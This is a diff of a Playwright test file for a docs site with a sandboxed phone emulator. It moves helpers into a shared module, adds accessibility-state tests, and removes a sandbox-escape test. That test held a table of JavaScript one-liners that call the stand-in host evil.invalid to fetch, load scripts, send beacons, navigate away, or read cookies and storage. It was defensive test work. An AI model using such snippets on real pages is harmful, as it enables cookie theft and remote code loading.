@@ -1,19 +1,8 @@
-import type { FrameLocator, Page } from '@playwright/test'
+import type { FrameLocator } from '@playwright/test'
 import { address, expect, site, test } from './site'
 import { openPage } from './steps/open'
-
-const pathname = '/docs/guides/examples'
-
-/** Opens the phone with a screen, by its address. */
-async function openPhone(page: Page, screen: string): Promise<FrameLocator> {
-  await openPage(page, `${pathname}?run=${screen}`)
-  return page.frameLocator('iframe')
-}
-
-const allow = (phone: FrameLocator) =>
-  phone.getByRole('button', { name: 'Allow', exact: true }).click()
-const settings = (page: Page) => page.getByRole('form', { name: 'Settings of the phone' })
-const log = (page: Page) => page.getByRole('log')
+import { allow, log, openPhone, pathname, settings } from './steps/live-phone'
+import { testStates } from '../a11y/test-states'
 
 for (const platform of ['iOS', 'Android']) {
   test(`each screen does on ${platform} what its guide says`, async ({ page }) => {
@@ -58,7 +47,7 @@ test('what is done to the phone reaches the screen as on a phone', async ({ page
   const phone = await openPhone(page, 'scanner')
   await phone.getByRole('button', { name: 'Don’t allow' }).click()
   await expect(phone.getByRole('button', { name: 'Open settings' })).toBeVisible()
-  await settings(page).getByLabel('Camera permission').selectOption('allowed')
+  await settings(page).getByLabel('Camera access').selectOption('allowed')
   await expect(log(page)).toContainText('onStarted')
   await settings(page).getByLabel('The app is').selectOption('in the background')
   await expect(log(page)).toContainText('onStopped')
@@ -84,70 +73,8 @@ test('a call fails with the error that it is told to, and its name leads to its 
   await page.getByLabel('Filter the log').fill('timed')
   await expect(log(page).getByRole('listitem')).toHaveCount(1)
   await log(page).getByRole('link', { name: 'takePhoto()' }).click()
-  await expect(page.locator(':target')).toContainText('takePhoto')
-})
-
-/** Code that a reader may have been talked into, and what it would reach without the frame. */
-const attacks: Record<string, string> = {
-  'asks the network': `fetch('https://evil.invalid/fetch')`,
-  'asks the network in an old way': `const r = new XMLHttpRequest(); r.open('GET', 'https://evil.invalid/xhr'); r.send()`,
-  'opens a socket': `new WebSocket('wss://evil.invalid/socket')`,
-  'sends a beacon': `navigator.sendBeacon('https://evil.invalid/beacon', 'x')`,
-  'loads an image': `new Image().src = 'https://evil.invalid/image'`,
-  'loads a script': `const s = document.createElement('script'); s.src = 'https://evil.invalid/script'; document.body.append(s)`,
-  'opens a frame': `const f = document.createElement('iframe'); f.src = 'https://evil.invalid/frame'; document.body.append(f)`,
-  'leaves its frame': `location = 'https://evil.invalid/self'`,
-  'leaves the page': `top.location = 'https://evil.invalid/top'`,
-  'opens a window': `window.open('https://evil.invalid/window')`,
-  'sends a form': `document.body.innerHTML += '<form action="https://evil.invalid/form"></form>'; document.forms[0].submit()`,
-  'reads the page': `parent.document.body.dataset.read = 'yes'`,
-  'reads what is stored': `parent.postMessage({ type: 'log', kind: 'call', name: 'stored', detail: localStorage.length + 'x' }, '*')`,
-  'reads cookies': `parent.postMessage({ type: 'log', kind: 'call', name: 'stored', detail: document.cookie + 'x' }, '*')`,
-  'asks for a database': `indexedDB.open('x')`,
-  'starts a worker of the site': `navigator.serviceWorker.register('/sw.js')`,
-  'sends what is no report': `for (const data of [null, 1, { type: 'set', name: '__proto__' }, { type: 'log', detail: {} }]) parent.postMessage(data, '*')`,
-}
-
-test('code of others reaches nothing of the page, its site or the network', async ({
-  page,
-  complaints,
-}) => {
-  let code = ''
-  const asked: string[] = []
-  page.on('request', (request) => {
-    if (request.url().includes('evil.invalid')) asked.push(request.url())
-  })
-  page.on('popup', (popup) => asked.push(popup.url()))
-  await page.route('**/live/scanner.js', (route) =>
-    route.fulfill({
-      body: `${code};exports.Screen = () => 'It ran'`,
-      contentType: 'text/javascript',
-    }),
-  )
-  for (const [attack, attempt] of Object.entries(attacks)) {
-    code = `setTimeout(() => { ${attempt} }); try { ${attempt} } catch (error) { console.log('refused') }`
-    const phone = await openPhone(page, 'scanner')
-    // A frame that may lead nowhere else shows an error of the browser, or stays.
-    await expect(page.locator('iframe')).toBeVisible()
-    if (attack !== 'leaves its frame') await expect(phone.getByText('It ran')).toBeVisible()
-    await expect(page).toHaveURL(new RegExp(`${pathname}\\?run=scanner`))
-    expect(await page.locator('body').getAttribute('data-read'), attack).toBeNull()
-    expect(await log(page).textContent(), attack).not.toMatch(/stored/)
-  }
-  expect(asked).toEqual([])
-  complaints.splice(0)
-})
-
-test('an endless loop is ended, and the phone can be started again', async ({ page }) => {
-  await page.route('**/live/scanner.js', (route) =>
-    route.fulfill({ body: 'setTimeout(() => { for (;;); }); exports.Screen = () => null' }),
-  )
-  await openPhone(page, 'scanner')
-  await expect(page.getByText('so it was ended')).toBeVisible()
-  await page.unroute('**/live/scanner.js')
-  await page.reload()
-  await allow(page.frameLocator('iframe'))
-  await expect(log(page)).toContainText('onStarted')
+  await expect(page).toHaveURL(/\/docs\/api\/classes\/Camera#takephoto$/)
+  await expect(page.locator('#takephoto')).toBeInViewport()
 })
 
 test('is opened by its button, and loads nothing before', async ({ page }) => {
@@ -159,4 +86,13 @@ test('is opened by its button, and loads nothing before', async ({ page }) => {
   await allow(page.frameLocator('iframe'))
   await expect(log(page)).toContainText('onStarted')
   await expect(page).toHaveURL(address(site, `${pathname}?run=video#video`))
+})
+
+testStates(async (page, expectSound) => {
+  const phone = await openPhone(page, 'scanner')
+  await phone.getByRole('button', { name: 'Allow', exact: true }).waitFor()
+  await expectSound('a dialog of the system')
+  await allow(phone)
+  await phone.getByText('https://example.com/hello').waitFor()
+  await expectSound('the running screen')
 })
